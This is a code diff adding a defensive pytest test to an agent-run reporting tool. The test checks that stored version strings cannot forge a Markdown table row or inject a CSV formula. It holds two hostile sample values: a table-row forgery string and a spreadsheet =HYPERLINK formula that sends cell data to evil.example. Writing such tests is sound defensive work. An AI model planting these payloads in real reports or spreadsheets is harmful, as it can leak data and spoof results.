@@ -116,3 +116,47 @@ def test_formats_json_markdown_csv(store_location: str, tmp_path: Path) -> None:
     assert rows[2][METRICS.index("tokens_in") + 1] == "390" and rows[3][-1] == "regressed"
     with pytest.raises(ConfigurationError, match="use json, md or csv"):
         format_report(report, "html")  # type: ignore[arg-type]
+
+
+FORGED = "9.9` | forged | 100.0% |\n| `1.0"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def _one_run(tape: Path, version: str) -> Path:
+    from otel_agent_replay import agent_run, record, tool
+
+    @tool(side_effect="read_only")
+    def look(n: int) -> int:
+        return n
+
+    with record(tape), agent_run("hostile", agent_version=version):
+        look(1)
+    return tape
+
+
+def test_a_stored_version_cannot_forge_a_markdown_row_or_a_csv_formula(tmp_path: Path) -> None:
+    from markdown_it import MarkdownIt
+
+    with open_store(tmp_path / "evidence.db") as store:
+        store.ingest(_one_run(tmp_path / "forged.jsonl", FORGED))
+        store.ingest(_one_run(tmp_path / "formula.jsonl", FORMULA))
+        report = report_rows(store, compare=(FORGED, FORMULA))
+    md = format_report(report, "md")
+    tokens = MarkdownIt("commonmark").enable("table").parse(md)
+    table: list[list[str]] = []
+    for token in tokens[: next(i for i, t in enumerate(tokens) if t.type == "table_close")]:
+        if token.type == "tr_open":
+            table.append([])
+        elif token.type == "inline" and table:
+            table[-1].append(token.content)
+    assert len(table) == 3  # the header and one row per stored version: no forged row
+    assert all(len(row) == len(METRICS) + 1 for row in table)
+    groups = [row[0] for row in table[1:]]
+    assert all(g.startswith("`") and g.endswith("`") for g in groups) and any("forged" in g for g in groups)
+    assert "\n| `1.0" not in md and "\\n" in md  # the newline is shown, not obeyed
+
+    rows_csv = list(csv.reader(io.StringIO(format_report(report, "csv"))))
+    text_cells = [row[0] for row in rows_csv[1:]]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in text_cells)
+    assert "'" + FORMULA in text_cells
+    assert orjson.loads(format_report(report, "json"))["comparison"]["candidate"] == FORMULA  # JSON stays exact
